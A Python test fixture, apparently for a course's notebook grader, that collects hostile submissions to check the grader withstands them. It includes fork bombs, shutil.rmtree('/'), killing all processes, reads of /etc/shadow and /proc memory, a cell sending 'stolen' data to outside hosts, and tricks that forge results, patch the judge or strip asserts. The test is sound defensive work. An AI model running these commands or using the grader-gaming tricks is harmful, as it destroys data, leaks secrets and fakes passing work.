"""Submissions that attack the grader, as code for a notebook. Each says what it costs whoever hands it in.

`ANSWERS` replace the answer to the task "preference", and cost that task. `CELLS` are added to right work, and cost
nothing: the grader must neither fall for them nor punish what harms nobody. The names in capitals (CANARY, PORT,
SECRET) are filled in by the test.
"""

RIGHT = "def preference(r_a, r_b):\n    return 1 / (1 + np.exp(-(r_a - r_b)))\n"


def answer(body: str) -> str:
    """A `preference` with this body."""
    return "def preference(r_a, r_b):\n" + "".join(f"    {line}\n" for line in body.strip("\n").splitlines())


ANSWERS = {
    "infinite_loop": (answer("while True: pass"), "time-out"),
    "deep_recursion": (answer("import sys\nsys.setrecursionlimit(10**9)\nreturn preference(r_a, r_b)"), None),
    "memory_hog": (answer("hog = []\nwhile True: hog.append(b'x' * (1 << 24))"), None),
    "memory_hog_by_children": (
        answer(
            "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n        x = b'x' * (300 << 20)\n"
            "        time.sleep(60)\ntime.sleep(60)"
        ),
        None,  # memory, or time on a slow machine
    ),
    "sys_exit": (answer("import sys\nsys.exit(0)"), "SystemExit"),
    "os_exit": (answer("import os\nos._exit(0)"), "crash"),
    "segfault": (answer("import ctypes\nctypes.string_at(8)"), "crash"),
    "closed_channel": (answer("import os\nos.closerange(0, 256)\nreturn r_a"), "crash"),
    "forged_frames": (
        answer(
            "import os, struct\nfor fd in range(3, 64):\n"
            "    try: os.write(fd, struct.pack('<Q', 1 << 60) + b'x' * 4096)\n"
            "    except OSError: pass\nreturn 1 / (1 + np.exp(-(r_a - r_b)))"
        ),
        "forgery",
    ),
    "forged_answer": (
        answer(
            "import os, sys\nfrom rlhf_edu.grading import wire\nimport struct\n"
            "data = wire.pack({'id': True, 'ok': True, 'out': '', 'value': r_a, 'score': 1.0})\n"
            "for fd in range(3, 64):\n    try: os.write(fd, struct.pack('<Q', len(data)) + data)\n"
            "    except OSError: pass\nreturn r_a"
        ),
        "forgery",
    ),
    "flood": (
        answer(
            "import os\nwhile True:\n    for fd in range(3, 64):\n        try: os.write(fd, b'\\0' * 65536)\n"
            "        except OSError: pass"
        ),
        "forgery",
    ),
    "equals_everything": (
        "class Everything:\n    shape = (2,)\n    def __eq__(self, other): return True\n"
        "    def __float__(self): return 0.5\n"
        "    def __array__(self, *a, **k): raise SystemExit\n    __hash__ = object.__hash__\n"
        + answer("return Everything()"),
        "type",
    ),
    "pickle_bomb": (
        "class Bomb:\n    def __reduce__(self): return (open, ('CANARY', 'w'))\n"
        + answer("return [Bomb()]")
        + "import copyreg, io, pickle\n",
        "type",
    ),
    "object_array": (answer("return np.array([lambda: 1] * len(r_a), dtype=object)"), "type"),
    "library_function": ("import torch\npreference = torch.sigmoid\n", "library"),
    "library_inside": (
        answer("import torch\nreturn torch.sigmoid(torch.as_tensor(r_a - r_b)).numpy()"),
        "library",
    ),
    "copied_source": (
        "import math\n"
        + answer(
            "out = []\nfor a, b in zip(r_a.tolist(), r_b.tolist(), strict=True):\n    top = max(a, b)\n"
            "    weight_a, weight_b = math.exp(a - top), math.exp(b - top)\n"
            "    out.append(weight_a / (weight_a + weight_b))\nreturn np.array(out)"
        ),
        "library",
    ),
    "patched_judge": (
        "import builtins, numpy\nnumpy.allclose = numpy.array_equal = lambda *a, **k: True\n"
        "numpy.abs = lambda x: numpy.zeros(1)\nbuiltins.any = lambda x: False\nbuiltins.all = lambda x: True\n"
        "import rlhf_edu.grading as g, rlhf_edu.grading.wire as w, rlhf_edu.grading.student as s\n"
        "g.check = lambda *a, **k: True\ns.StudentError.__init__ = lambda *a: None\n" + answer("return r_a"),
        "input",
    ),
    "assert_remover": (
        "import ast\nclass Drop(ast.NodeTransformer):\n    def visit_Assert(self, node): return None\n"
        "    def visit_Raise(self, node): return None\n"
        "get_ipython().ast_transformers.append(Drop())\n" + answer("return r_b"),
        "input",
    ),
    "reads_the_answers": (
        "import os, sys, glob\nfound = []\n"
        "for root in ('SECRET', '/proc/1/environ', '/proc/self/mem', '/etc/shadow', os.path.expanduser('~root')):\n"
        "    try: found += [open(root, 'rb').read(100)] if os.path.isfile(root) else os.listdir(root)\n"
        "    except OSError: pass\n"
        "for name in ('judges', 'answers', 'tasks', 'check', 'gradebook', 'runner'):\n"
        "    try:\n        module = __import__(f'rlhf_edu.grading.{name}', fromlist=['x'])\n"
        "        found += [open(module.__file__).read()] if name not in ('check',) else []\n"
        "    except ImportError: pass\n"
        "for path in glob.glob('**/e00_start.py', root_dir='/', recursive=False): found.append(path)\n"
        "print('found:', found)\n" + answer("return r_a if not found else np.array(eval(str(found[0])))"),
        "input",
    ),
    "invented_exception": (
        answer(
            "name = 'leak_' + '_'.join(str(x) for x in r_a)\n"
            "raise type(name, (Exception,), {'__str__': lambda self: 1 / 0})"
        ),
        None,
    ),
}  # fmt: skip

CELLS = {
    "fork_bomb": "import os\ntry:\n    while True:\n        os.fork()\nexcept OSError:\n    pass\n",
    "thread_bomb": (
        "import threading, time\ntry:\n    while True:\n"
        "        threading.Thread(target=time.sleep, args=(600,)).start()\n"
        "except RuntimeError:\n    pass\n"
    ),
    "hundred_megabytes": (
        "for _ in range(100):\n    print('x' * (1 << 20))\nimport os\nos.write(1, b'x' * (100 << 20))\n"
    ),
    "closed_stdout": "import sys, os\nsys.stdout.close()\nsys.stdout = None\nos.close(1)\nos.close(2)\n",
    "background": (
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; MARKER = 1; time.sleep(600)'],"
        " start_new_session=True)\n"
    ),
    "kills_all": "import os, signal\ntry: os.kill(-1, signal.SIGKILL)\nexcept OSError: pass\n",
    "deletes_all": (
        "import shutil\nshutil.rmtree('/', ignore_errors=True)\n"
        "import os\ntry: os.remove('CANARY')\nexcept OSError: pass\n"
    ),
    "fills_the_disk": (
        "try:\n    for i in range(100):\n"
        "        open(f'/tmp/{i}', 'wb').write(b'x' * (32 << 20))\nexcept OSError:\n    pass\n"
    ),
    "network": (
        "import socket\nfor host in ('127.0.0.1', '10.0.0.1', 'example.org'):\n"
        "    try:\n        s = socket.create_connection((host, PORT), timeout=1)\n        s.send(b'stolen')\n"
        "    except OSError: pass\n"
    ),
    "reads_memory": (
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "assert libc.ptrace(16, os.getppid(), 0, 0) == -1\n"
        "for pid in range(1, 300):\n"
        "    for name in ('mem', 'environ', 'maps'):\n"
        "        try:\n            with open(f'/proc/{pid}/{name}', 'rb') as f: f.read(1); print('READ', pid, name)\n"
        "        except OSError: pass\n"
    ),
}  # fmt: skip
